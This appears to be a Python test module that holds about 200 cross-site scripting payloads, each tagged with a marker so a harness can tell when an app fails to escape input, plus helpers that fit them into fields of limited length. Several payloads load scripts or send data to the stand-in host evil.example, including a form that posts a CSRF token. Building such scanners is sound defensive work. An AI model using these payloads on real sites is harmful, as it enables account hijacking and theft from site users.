"""200 texts that would become more than text on a page which does not escape: each names itself, and every
element or attribute that it would make is called after it."""

from __future__ import annotations

import re

# `@` is the mark: a name such as pwn17ab, of the payload's number and the field that it was put into.
_TEXTS = r"""
<script>alert(1)</script><i @>
</script><script>alert(1)</script><i @>
<script @ src=//evil.example/x.js></script>
<script @>top["al"+"ert"](1)</script>
<ScRiPt @>alert`1`</sCrIpT>
<script @ type=module>alert(1)</script>
<script @/src=data:,alert(1)></script>
<scr<script>ipt @>alert(1)</scr</script>ipt>
<script @>/*</script><script>*/alert(1)</script>
<script x @ >alert(1)</script >
<script @ type="text/template"></script><img @ src=x onerror=alert(1)>
"><script @>alert(1)</script>
'><script @>alert(1)</script>
--><script @>alert(1)</script>
]]><script @>alert(1)</script>
<!--<script @>alert(1)--></script>
<img @ src=x onerror=alert(1)>
<img @ src=x onerror="alert(1)">
<img @ src=`x` onerror=alert(1)>
<img/@/src=x/onerror=alert(1)>
<IMG @ SRC=x ONERROR=alert(1)>
<img @ src=x:x onerror=confirm(1)//
<img @ src onerror=prompt(1)
<<img @ src=x onerror=alert(1)>
<img @ srcset=x onerror=alert(1)>
<img @ src=x onload=alert(1) onerror=alert(1)>
<image @ src=x onerror=alert(1)>
<picture @><source srcset=x><img @ onerror=alert(1) src=x></picture>
<img @ src=//evil.example/p.gif>
<img @ lowsrc=//evil.example/p.gif>
<body @ onload=alert(1)>
<body @ onpageshow=alert(1)>
<body @ background=//evil.example/p.gif>
<html @ onmouseover=alert(1)>
<frameset @ onload=alert(1)>
<iframe @ onload=alert(1)>
<iframe @ src=javascript:alert(1)>
<iframe @ srcdoc="<script>alert(1)</script>">
<iframe @ srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;>
<iframe @ src=data:text/html,<script>alert(1)</script>>
<iframe @ src=//evil.example/>
<frame @ src=javascript:alert(1)>
<object @ data=javascript:alert(1)>
<object @ data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<embed @ src=javascript:alert(1)>
<embed @ src=//evil.example/x.swf>
<applet @ code=x>
<portal @ src=//evil.example/>
<fencedframe @ src=//evil.example/>
<svg @ onload=alert(1)>
<svg/@/onload=alert(1)>
<svg @><script>alert(1)</script></svg>
<svg @><script href=data:,alert(1) />
<svg @><animate @ onbegin=alert(1) attributeName=x dur=1s>
<svg @><set @ onbegin=alert(1) attributeName=x>
<svg @><a @ xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a>
<svg @><use @ href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>#x">
<svg @><foreignObject @><img @ src=x onerror=alert(1)></foreignObject></svg>
<svg @><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<svg @><title><style><img @ src=x onerror=alert(1)></style></title></svg>
<svg @><image @ href=x onerror=alert(1)>
<svg @><animate @ attributeName=href values=javascript:alert(1) /><a id=x>x</a>
<svg @ xmlns="http://www.w3.org/2000/svg"><handler @>alert(1)</handler>
<math @><mtext><table><mglyph><style><img @ src=x onerror=alert(1)>
<math @><mi xlink:href="javascript:alert(1)">x</mi></math>
<math @><annotation-xml encoding=text/html><img @ src=x onerror=alert(1)>
<math @><maction actiontype=statusline#http://x xlink:href=javascript:alert(1)>x
<form @><math><mtext></form><form><mglyph><style></math><img @ src onerror=alert(1)>
<table @><td background=//evil.example/p.gif>
<a @ href=javascript:alert(1)>x</a>
<a @ href="java&#9;script:alert(1)">x</a>
<a @ href="&#106;avascript:alert(1)">x</a>
<a @ href=" javascript:alert(1)">x</a>
<a @ href="JaVaScRiPt:alert(1)">x</a>
<a @ href=data:text/html,<script>alert(1)</script>>x</a>
<a @ href=vbscript:msgbox(1)>x</a>
<a @ href=//evil.example/ target=_blank>x</a>
<a @ href=x ping=//evil.example/>x</a>
<a @ onmouseover=alert(1)>x</a>
<a @ onfocus=alert(1) tabindex=1 autofocus>x</a>
<area @ href=javascript:alert(1)>
<base @ href=//evil.example/>
<base @ target=_blank>
<link @ rel=stylesheet href=//evil.example/x.css>
<link @ rel=import href=//evil.example/>
<link @ rel=preload as=script href=//evil.example/x.js>
<link @ rel=modulepreload href=data:,alert(1)>
<link @ rel=dns-prefetch href=//evil.example>
<meta @ http-equiv=refresh content="0;url=javascript:alert(1)">
<meta @ http-equiv=refresh content="0;url=//evil.example/">
<meta @ http-equiv=Content-Security-Policy content="default-src *">
<meta @ name=referrer content=unsafe-url>
<meta @ name=htmx-config content='{"allowEval":true}'>
<style @>body{display:none}</style>
<style @>@import'//evil.example/x.css';</style>
</style><style @>*{background:url(//evil.example/p.gif)}</style>
<div @ style=background:url(//evil.example/p.gif)>
<div @ style=width:expression(alert(1))>
<div @ style="position:fixed;inset:0;z-index:99999">x</div>
<x @ style=animation-name:spin onanimationstart=alert(1)>
<style>@keyframes x{}</style><x @ style=animation-name:x onanimationend=alert(1)>
<input @ autofocus onfocus=alert(1)>
<input @ onblur=alert(1) autofocus><input autofocus>
<input @ type=image src=x onerror=alert(1)>
<input @ value=x oncut=alert(1)>
<textarea @ autofocus onfocus=alert(1)>
</textarea><img @ src=x onerror=alert(1)>
</title><img @ src=x onerror=alert(1)>
</option></select><img @ src=x onerror=alert(1)>
</button><img @ src=x onerror=alert(1)>
</noscript><img @ src=x onerror=alert(1)>
</template><img @ src=x onerror=alert(1)>
<select @ autofocus onfocus=alert(1)>
<keygen @ autofocus onfocus=alert(1)>
<button @ onclick=alert(1)>x</button>
<button @ formaction=javascript:alert(1)>x
<button @ form=x formaction=//evil.example/>x
<form @ action=//evil.example/><input name=csrfmiddlewaretoken>
<form @ action=javascript:alert(1)><button>x
<form @ id=document><input name=cookie>
<isindex @ action=javascript:alert(1) type=image>
<details @ open ontoggle=alert(1)>
<details/@/open/ontoggle=alert(1)>
<dialog @ open onclose=alert(1)>
<video @ onerror=alert(1)><source>
<video @ src=x onerror=alert(1)>
<video @ poster=javascript:alert(1)>
<video @><source onerror=alert(1)>
<audio @ src=x onerror=alert(1)>
<audio @ onloadstart=alert(1) src=x>
<track @ src=x onerror=alert(1)>
<marquee @ onstart=alert(1)>x
<marquee @ loop=1 width=0 onfinish=alert(1)>x
<bgsound @ src=javascript:alert(1)>
<layer @ src=//evil.example/x.js>
<xmp @><img @ src=x onerror=alert(1)></xmp>
<plaintext @>
<noembed @><img @ src=x onerror=alert(1)></noembed>
<listing @>&lt;img onerror=alert(1) src=x&gt;</listing>
<div @ onpointerover=alert(1)>x</div>
<div @ onwheel=alert(1)>x</div>
<div @ contenteditable onbeforeinput=alert(1)>x</div>
<div @ popover id=x onbeforetoggle=alert(1)>x</div>
<div @ hidden=until-found onbeforematch=alert(1)>x</div>
<custom-element @ onclick=alert(1)>x
<x @ onclick=alert(1)>x
<x/@/onmouseenter=alert(1)>x
<template @ shadowrootmode=open><img src=x onerror=alert(1)></template>
<slot @ onslotchange=alert(1)>
<img @ id=cookie><img @ id=htmx name=htmx>
<a @ id=htmx></a><a @ id=htmx name=config>x</a>
<form @ name=getElementById><input name=querySelector>
<input @ name=attributes><input name=innerHTML>
<div @ id=song>{"markers":[]}</div>
<div @ hx-get=//evil.example/ hx-trigger=load>
<div @ hx-get=/accounts/ hx-trigger="load, every 1s">
<div @ hx-on:click=alert(1)>x</div>
<div @ hx-on::load="alert(1)">x</div>
<div @ hx-vals='js:{x:alert(1)}' hx-post=/ hx-trigger=load>
<div @ data-hx-post=/sign-in/logout/ data-hx-trigger=load>
<div @ hx-headers='js:{x:alert(1)}' hx-get=/>
<div @ hx-ext=x hx-trigger="click[alert(1)]" hx-get=/>
<div @ hx-swap-oob=true id=main>x</div>
<div @ data-player data-watch-title=x>
" @ onmouseover=alert(1) x="
' @ onmouseover=alert(1) x='
" @ autofocus onfocus=alert(1) "
' @ autofocus onfocus=alert(1) '
` @ onmouseover=alert(1) x=`
 @ onmouseover=alert(1)
"/@/onmouseover=alert(1)/"
"><img @ src=x onerror=alert(1)>
'"><img @ src=x onerror=alert(1)>
'"--></style></script><svg @ onload=alert(1)>
javascript:alert(1)//@
javascript:/*--></title></style></textarea></script></xmp><svg/@/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
data:text/html,<script>alert(1)</script><i @>
\";alert(1);//@
';alert(1);//@
\u003cimg @ src=x onerror=alert(1)\u003e
\x3cimg @ src=x onerror=alert(1)\x3e
&lt;img @ src=x onerror=alert(1)&gt;
&#60;img @ src=x onerror=alert(1)&#62;
&amp;lt;img @ src=x onerror=alert(1)&amp;gt;
%3Cimg @ src=x onerror=alert(1)%3E
＜img @ src=x onerror=alert(1)＞
{{constructor.constructor('alert(1)')()}}@
{% load static %}{{ settings.SECRET_KEY }}@
${alert(1)}@
#{alert(1)}@
<%= alert(1) %>@
[[${alert(1)}]]@
{"__proto__":{"x":"@"},"a":"</script><script>alert(1)</script>"}
"}</script><img @ src=x onerror=alert(1)>
]}<!--<script>alert(1)@
%(person)s %s {0.__class__} {name!r}@
<img @ src=x onerror=alert(1)>‮gnp.exe
<im​g @ src=x onerror=alert(1)>
<ſcript @>alert(1)</ſcript>
+ADw-script+AD4-alert(1)+ADw-/script+AD4-@
"""
TEXTS = tuple(
    line.replace("@import", "\0").replace("@keyframes", "\1") for line in _TEXTS.strip("\n").split("\n")
)
NUMBER = len(TEXTS)
MARK = re.compile(r"pwn(\d+)([a-z]{2})(?![a-z])")


def payload(number: int, code: str) -> str:
    """The payload of this number, from 0, for the field that a code of two letters stands for."""
    text = TEXTS[number].replace("@", f"pwn{number}{code}")
    return text.replace("\0", "@import").replace("\1", "@keyframes")


def fitting(code: str, longest: int) -> list[str]:
    """All payloads that a field of so many characters can hold."""
    return [text for text in (payload(number, code) for number in range(NUMBER)) if len(text) <= longest]


def packed(code: str, longest: int) -> list[str]:
    """All that fit, in as few texts of at most so many characters as it takes one after the other."""
    texts: list[str] = []
    for text in fitting(code, longest):
        if texts and len(texts[-1]) + 1 + len(text) <= longest:
            texts[-1] += f" {text}"
        else:
            texts.append(text)
    return texts


def together(code: str) -> str:
    """All of them in one text, for what is written as long as one likes."""
    return "\n".join(payload(number, code) for number in range(NUMBER))
